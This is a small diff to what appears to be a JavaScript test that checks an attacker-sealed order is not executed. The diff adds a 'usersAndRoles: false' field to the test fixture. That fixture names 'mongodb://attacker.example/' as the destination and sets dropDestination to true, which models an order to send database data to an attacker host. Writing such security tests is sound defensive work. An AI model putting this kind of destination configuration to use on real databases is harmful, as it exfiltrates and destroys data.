@@ -107,6 +107,7 @@ test("an order that an attacker on the path seals to the request's key is not ex
           destination: { uri: 'mongodb://attacker.example/' },
           dropDestination: true,
           reversible: false,
+          usersAndRoles: false,
         },
       },
     ],
